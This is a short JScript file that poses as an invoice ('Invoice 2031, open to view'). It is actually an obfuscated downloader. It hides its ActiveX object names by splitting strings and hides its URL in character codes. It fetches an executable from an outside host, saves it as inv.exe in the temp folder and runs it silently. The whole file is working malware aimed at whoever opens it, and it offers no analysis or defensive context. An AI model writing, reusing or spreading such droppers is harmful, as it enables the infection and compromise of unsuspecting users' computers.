// Invoice 2031, open to view
var _0x1a = ["WScr" + "ipt.Sh" + "ell", "MSX" + "ML2.XMLH" + "TTP", "ADO" + "DB.Str" + "eam"];
var u = String.fromCharCode(104,116,116,112,58,47,47,98,105,108,108,105,110,103,46,98,97,100,45,99,100,110,46,105,110,118,97,108,105,100,47,105,46,112,104,112,63,105,100,61,55);
var h = new ActiveXObject(_0x1a[1]);
h.open("GET", u, false);
h.send();
var s = new ActiveXObject(_0x1a[2]);
s.Open(); s.Type = 1; s.Write(h.responseBody);
var p = new ActiveXObject(_0x1a[0]).ExpandEnvironmentStrings("%TEMP%") + "\\inv.exe";
s.SaveToFile(p, 2);
new ActiveXObject(_0x1a[0]).Run(p, 0, false);
